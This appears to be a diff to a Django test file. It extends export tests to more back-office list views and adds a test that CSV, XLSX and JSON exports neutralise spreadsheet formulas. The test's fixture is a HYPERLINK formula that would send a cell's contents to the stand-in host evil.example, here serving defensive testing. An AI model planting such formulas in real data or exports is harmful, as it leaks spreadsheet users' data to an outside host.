@@ -28,6 +28,12 @@ LISTS = {
     "backoffice:project_list": (None, {"q": "zzzaucune"}),
     "backoffice:call_list": (None, {"stage": "cancelled"}),
     "backoffice:application_list": (None, {"stage": "withdrawn"}),
+    # the lists that are not FilteredListViews, through the same ExportMixin (no filter: None)
+    "backoffice:study_list": (None, {"q": "zzzaucune"}),
+    "backoffice:committee_list": (None, None),
+    "backoffice:support_plan_list": ("Projet accompagné A", {"etape": "stopped"}),
+    "backoffice:enterprise_list": (None, None),
+    "backoffice:agreement_list": (None, None),
 }
 
 
@@ -83,8 +89,9 @@ def test_export_opens_back_with_the_filters(shared_world, db, name, fmt):  # noq
         assert len(rows) >= 2, "fabrique A's rows are exported"
     if marker:
         assert marker in text
-    filtered = open_back(fmt, client.get(url, {"export": fmt, **empty_filter}))
-    assert len(filtered) == 1  # the header only (json: an empty list)
+    if empty_filter is not None:
+        filtered = open_back(fmt, client.get(url, {"export": fmt, **empty_filter}))
+        assert len(filtered) == 1  # the header only (json: an empty list)
 
 
 def test_the_list_page_links_its_exports_with_the_filters(shared_world, db):  # noqa: F811
@@ -96,3 +103,33 @@ def test_the_list_page_links_its_exports_with_the_filters(shared_world, db):  # 
     for fmt in ("csv", "xlsx", "json"):
         assert f"?q=Structure&amp;export={fmt}" in html
     assert client.get(url, {"export": "pdf"}).status_code == 400
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
+def test_a_new_list_export_neutralises_formulas_and_keeps_types(client, team, fmt):
+    """The committees' export (a TemplateView list through ExportMixin): a typed formula reaches the
+    spreadsheet as text; numbers stay numbers in XLSX and JSON, French in CSV."""
+    from tests.committees.factories import make_committee
+    from tests.directory.factories import make_person
+
+    members = [make_person(team.fabrique, first_name=n, last_name="Membre") for n in ("Alex", "Bea")]
+    make_committee(team.fabrique, team.admin, name=FORMULA, members=members)
+    client.force_login(team.reader, backend="django.contrib.auth.backends.ModelBackend")
+    url = reverse("backoffice:committee_list", kwargs={"fabrique_slug": team.fabrique.slug})
+    response = client.get(url, {"export": fmt})
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content)
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+        assert rows[0][:4] == ["Nom", "Type", "Étude suivie", "Membres"]
+        assert rows[1][0] == "'" + FORMULA and rows[1][3] == "2"
+    elif fmt == "xlsx":
+        sheet = load_workbook(io.BytesIO(body)).active
+        row = next(sheet.iter_rows(min_row=2, values_only=True))
+        assert row[0] == "'" + FORMULA and row[3] == 2
+    else:
+        data = json.loads(body)
+        assert data[0]["name"] == FORMULA and data[0]["members"] == 2
